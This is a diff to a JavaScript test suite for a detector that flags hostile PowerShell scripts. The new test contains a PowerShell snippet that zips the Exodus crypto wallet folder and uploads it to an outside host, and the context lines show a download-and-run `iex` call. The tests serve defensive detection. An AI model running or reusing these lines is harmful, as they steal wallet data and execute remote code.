@@ -165,3 +165,14 @@ test("what a function fetches, it returns", () => {
   const storing = "function Get-It {\n  $c.DownloadFile($u, 'a.txt')\n}\n";
   expect(seenIn(`${storing}iex (Get-It "${url}")`)).toEqual([]);
 });
+
+test("an archive of secrets that is sent has their name", () => {
+  const list = '$src = @("$env:APPDATA\\Exodus", "$env:TEMP\\a")\n';
+  const pack =
+    '$out = Join-Path $env:TEMP "a.zip"\nCompress-Archive -Path $src -DestinationPath $out\n';
+  const send = `Invoke-RestMethod -Uri "${url}" -Method Post -InFile $out`;
+  const sent = "4 critical high sends $env:APPDATA\\Exodus to c.zzz.io";
+  expect(seenIn(`${list}${pack}${send}`)).toEqual([sent]);
+  expect(seenIn(`$src = @("$env:TEMP\\b")\n${pack}${send}`)).toEqual([]);
+  expect(seenIn(`$src = [Convert]::FromBase64String("YQ==")\n${pack}${send}`)).toEqual([]);
+});
